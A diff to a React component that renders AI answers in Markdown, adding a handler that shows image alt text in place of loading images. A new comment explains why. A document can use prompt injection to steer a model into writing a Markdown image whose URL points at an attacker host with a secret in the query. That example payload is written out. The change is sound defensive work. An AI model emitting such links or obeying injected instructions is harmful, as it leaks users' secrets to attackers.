@@ -3,13 +3,19 @@ import type { Citation } from "@/api/types";
 import { useI18n } from "@/i18n";
 import { citationNumber, linkMarkers } from "./markers";
 
-/** An answer in Markdown; its `[n]` markers are buttons opening source n. */
+/**
+ * An answer in Markdown; its `[n]` markers are buttons opening source n.
+ * Images are never loaded: a document can steer a model into writing
+ * `![](https://attacker/?q=<secret>)`, which would send the secret as the
+ * browser fetched it. Their alternative text is shown instead.
+ */
 export function Answer({ text, onCite }: { text: string; onCite: (number: number) => void }) {
   const { t } = useI18n();
   return (
     <div className="prose-answer text-sm leading-relaxed" data-testid="answer">
       <Markdown
         components={{
+          img: ({ alt }) => (alt ? <span data-testid="answer-image-alt">[{alt}]</span> : null),
           a: ({ href, children }) => {
             const n = citationNumber(href);
             if (n === null) {
